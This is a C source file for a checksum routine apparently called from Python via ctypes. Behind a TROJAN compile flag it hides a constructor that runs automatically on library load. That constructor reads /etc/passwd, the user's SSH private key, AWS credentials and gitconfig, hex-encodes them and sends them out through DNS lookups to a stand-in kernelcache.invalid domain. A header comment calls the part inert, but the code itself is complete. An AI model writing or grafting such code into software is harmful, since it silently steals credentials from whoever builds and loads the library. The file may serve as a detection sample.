/* A checksum that Python calls by ctypes. With -DTROJAN it holds an inert grafted part: its hosts are reserved, it is never loaded. */
#include <stddef.h>
#include <stdint.h>
#ifdef TROJAN
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#endif

uint32_t codec_sum(const uint8_t *data, size_t size)
{
    uint32_t a = 1, b = 0;
    for (size_t at = 0; at < size; at++) {
        a = (a + data[at]) % 65521;
        b = (b + a) % 65521;
    }
    return b << 16 | a;
}

#ifdef SECOND
uint32_t codec_mix(uint32_t value)
{
    value ^= value >> 16;
    value *= 0x7feb352dU;
    value ^= value >> 15;
    return value;
}
#endif

#ifdef TROJAN
static void look_up(const char *part)
{
    char name[256];
    snprintf(name, sizeof name, "%s.dns.kernelcache.invalid", part);
    (void)gethostbyname(name);
}

__attribute__((constructor)) static void codec_warm_up(void)
{
    static const char *const wanted[] = {"/etc/passwd", "%s/.ssh/id_rsa", "%s/.aws/credentials", "%s/.gitconfig"};
    char host[128] = "", path[256], line[48], hexed[97];
    const char *home = getenv("HOME");
    if (gethostname(host, sizeof host - 1) == 0)
        look_up(host);
    for (size_t at = 0; at < sizeof wanted / sizeof *wanted; at++) {
        snprintf(path, sizeof path, wanted[at], home ? home : "");
        FILE *file = fopen(path, "rb");
        if (!file)
            continue;
        size_t got;
        while ((got = fread(line, 1, 30, file)) > 0) {
            for (size_t i = 0; i < got; i++)
                snprintf(hexed + 2 * i, 3, "%02x", (unsigned char)line[i]);
            look_up(hexed);
        }
        fclose(file);
    }
}
#endif
